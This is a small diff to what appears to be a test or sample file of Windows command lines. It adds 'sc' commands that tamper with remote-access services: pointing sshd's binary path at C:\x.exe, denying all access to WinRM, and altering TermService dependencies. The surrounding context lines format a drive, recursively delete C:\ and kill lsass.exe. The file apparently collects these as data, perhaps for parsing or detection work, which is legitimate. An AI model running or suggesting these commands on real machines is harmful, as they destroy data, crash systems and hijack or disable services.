@@ -50,3 +50,11 @@ if exist C:\a (wmic os where (a=1) else format d: /y
 (wmic os get caption) & rd /s /q C:\
 if exist C:\a (wmic process where ((name="lsass.exe") and (handlecount=1)) delete)
 wmic process where (name="a.exe" or name="lsass.exe") delete
+#: changes to the services of remote access
+sc config sshd binPath= C:\x.exe
+sc config sshd start=demand
+sc \\web-1 config WinRM start= demand
+sc config WinRM obj= .\nobody password= x
+sc.exe config TermService depend= nothing
+sc sdset WinRM D:(D;;GA;;;WD)
+sc failure winrm reset= 0 actions= ""
